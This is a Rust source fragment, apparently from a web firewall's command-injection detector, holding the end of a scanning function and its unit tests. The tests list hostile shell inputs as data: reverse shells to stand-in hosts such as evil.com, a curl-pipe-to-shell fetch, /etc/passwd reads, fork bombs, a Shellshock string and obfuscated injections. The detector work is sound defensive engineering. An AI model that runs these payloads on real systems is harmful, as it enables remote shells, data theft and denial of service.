        let mut variables = 0usize;
        while let Some(p) = l.as_bytes()[from..].iter().position(sep) {
            let at = from + p + 1;
            let after = l[at..].trim_start_matches(['|', '&']);
            variables += usize::from(after.trim_start().starts_with('$'));
            // Each check searches the whole value for the assignment: the first few only.
            if variables <= 4 && variable_command(l, after) {
                out.push(Hit::new(Detector::Cmdi, "variable-command", CRITICAL, 1));
                return;
            }
            let (mut word, mut rest) = command_word(after);
            if prefix(word) {
                (word, rest) = prefixed(rest);
            }
            if rare_cmd(word) && boundary(rest) {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            if wordlike(word) && attacker_args(word, rest) {
                out.push(Hit::new(Detector::Cmdi, "separator-command", CRITICAL, 1));
                return;
            }
            from = at;
        }
    }
    // Paranoia 2: `${IFS}` tricks and redirections to files.
    if (dollar && l.contains("${ifs")) || (gt && (l.contains(">/dev/") || l.contains("2>&1"))) {
        out.push(Hit::new(Detector::Cmdi, "shell-syntax", ERROR, 2));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::normalize::{normalize, Encoding};

    fn blocked(s: &str, place: Place) -> bool {
        let mut out = Vec::new();
        check(&normalize(s, Encoding::Plain), place, &mut out);
        out.iter().any(|h| h.paranoia == 1 && h.score >= 5)
    }

    #[test]
    fn tools_chained_after_a_separator() {
        for s in [
            "x;lastlog -u root",
            "time; ansible all -m ping",
            "a|ansible-playbook site.yml",
            "x; chef-client -t 1.1.1.1",
            "x;cd /etc;ls",
            "x;rmt-tar",
        ] {
            assert!(blocked(s, Place::Query), "{s}");
        }
        for s in [
            "Tom & Jerry; cd collection",
            "chef; cooking for two",
            "see the ansible docs; knife skills",
        ] {
            assert!(!blocked(s, Place::Query), "{s}");
        }
    }

    #[test]
    fn whole_value_command_lines() {
        for (s, place) in [
            ("ansible all -m ping", Place::Form),
            ("ansible-config dump", Place::Query),
            ("cscli alerts list", Place::Header),
            ("'cscli' alerts list", Place::Form),
            ("visudo", Place::Cookie),
            ("gunzip -c /var/log/secrets.gz", Place::Form),
            ("env --version", Place::Header),
            ("find /etc -name passwd", Place::Form),
        ] {
            assert!(blocked(s, place), "{s}");
        }
        for (s, place) in [
            ("ls -la shows hidden files", Place::Query),
            ("gcc -O2 tips and tricks", Place::Query),
            ("head -to-head", Place::Query),
            ("set 8 -mini as", Place::Query),
            ("python", Place::Query),
            ("chef report nodes", Place::Query),
            ("ping -5", Place::Query),
            ("ping -c means count", Place::Query),
            // In JSON text a command line is a message.
            ("ansible all -m ping", Place::JsonString),
        ] {
            assert!(!blocked(s, place), "{s}");
        }
    }

    #[test]
    fn fork_bombs() {
        for s in [
            ":(){ :|:& };:",
            "f(){ f|f& };f",
            "test() { test | test & } test",
            ".(){ .|.& };.",
        ] {
            let at = s.find("()").unwrap();
            assert!(fork_bomb(s, at), "{s}");
        }
        for s in ["f(){ g|f& }", "main() { run | tee log }", "f(){ f"] {
            let at = s.find("()").unwrap();
            assert!(!fork_bomb(s, at), "{s}");
        }
    }

    #[test]
    fn injections_are_caught() {
        for s in [
            "127.0.0.1; cat /etc/passwd",
            "x | whoami",
            "a && id",
            "$(curl http://evil/x.sh | sh)",
            "`id`",
            "1;sleep 5",
            "foo; /bin/bash -i",
            "test|nc evil.com 4444 -e /bin/sh",
            "& ping -c 10 127.0.0.1 &",
            "x\nwget http://evil/a",
            "IF   EXIST C:\\pagefile.sys  CMD",
            ";c89 -wrapper sh,-c,id .",
            "x; nohup nc -e /bin/sh evil.example 4444",
            "x & if not exist c:\\x (echo y)",
        ] {
            assert!(blocked(s, Place::Query), "{s}");
        }
    }

    #[test]
    fn commands_without_a_separator_are_caught() {
        for s in [
            "/bin/bash -c \"sh -i>& /dev/tcp/172.17.0.1/54321 0>&1\"",
            "time sh -c whoami",
            "cpulimit -l 100 -f whoami",
            "ti''me who",
            "'wh'oami",
            "\"w\"get localhost",
            "uname$u -a",
            "ping$() 127.0.0.1",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            "www.google.com;c$*at /et$*c/pas$*swd",
            "{cat,/etc/passwd}",
            "{,ifconfig}",
            "cat<<<'ifconfig' | sh",
            "alias ls-al='ls -al'",
            "/usr/bin/python3 -m http.server",
            "x nc 10.0.0.1 4444 -e sh",
            "IF %ERRORLEVEL% LEQ 2 echo test",
            "if red==red echo test",
        ] {
            assert!(blocked(s, Place::Query), "{s}");
        }
        assert!(blocked("() {", Place::Header));
        assert!(blocked("() { :; }; echo vulnerable", Place::JsonKey));
    }

    #[test]
    fn look_alikes_of_the_standalone_shapes_pass() {
        for (s, place) in [
            (
                "Time flies like an arrow; fruit flies like a banana.",
                Place::Query,
            ),
            (
                "If you're happy and you know it, clap your hands.",
                Place::Query,
            ),
            ("if a == b then echo the value back", Place::Query),
            ("I'd go with the blue one", Place::Query),
            ("Don't \"quote\" me on that", Place::Query),
            ("alias John Smith", Place::Query),
            ("/usr/bin/python3 is the interpreter", Place::Query),
            ("{first,last} name", Place::Query),
            ("() {} is an empty arrow function body", Place::Query),
            ("The nc command is netcat; we block it.", Place::Query),
            ("sudo make me a sandwich", Place::Query),
            // Found in review: the character before an option's word may be several bytes.
            ("é -c", Place::Query),
            ("日本 -i x", Place::Header),
            ("\u{e9}\u{301} /c", Place::Query),
            // In JSON text a shell snippet is a message, not a command line.
            ("run it with bash -c 'make test'", Place::JsonString),
        ] {
            assert!(!blocked(s, place), "{s}");
        }
    }

    #[test]
    fn prose_passes() {
        for s in [
            "Tom & Jerry; cat lovers unite",
            "R&D | sales",
            "meet at 5; sleep early",
            "I set the type; more to come",
            "costs $5 & more",
            "a | b | c",
            "echo chamber",
            "I wonder if exist is a word; it is not",
            "the file does not exist",
        ] {
            assert!(!blocked(s, Place::JsonString), "{s}");
        }
    }

    proptest::proptest! {
        /// The one-pass operator scan finds each operator where a substring search would.
        #[test]
        fn operators_are_found_where_a_search_finds_them(
            parts in proptest::collection::vec(
                proptest::prop_oneof![
                    proptest::strategy::Strategy::prop_map(
                        proptest::sample::select(vec![
                            "==", "=", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq ",
                            " equ", "equ ", " ", "  ",
                        ]),
                        str::to_string,
                    ),
                    "[a-z%\"]{1,3}",
                ],
                0..12,
            )
        ) {
            const OPS: [&str; 7] = ["==", " equ ", " neq ", " lss ", " leq ", " gtr ", " geq "];
            let s = parts.concat();
            let found = first_of_each(&s, &OPS);
            for (k, op) in OPS.iter().enumerate() {
                proptest::prop_assert_eq!(found[k], s.find(op), "{:?} in {:?}", op, s);
            }
        }
    }
}
